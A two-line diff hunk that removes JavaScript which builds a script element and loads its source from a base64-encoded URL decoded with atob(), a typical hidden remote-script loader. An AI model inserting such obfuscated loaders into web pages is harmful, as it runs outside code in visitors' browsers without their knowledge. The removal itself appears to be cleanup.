@@ -1,2 +1,0 @@
-const s = document.createElement("script");
-s.src = atob("aHR0cHM6Ly9jZG4uZXhhbXBsZS9hLmpz");
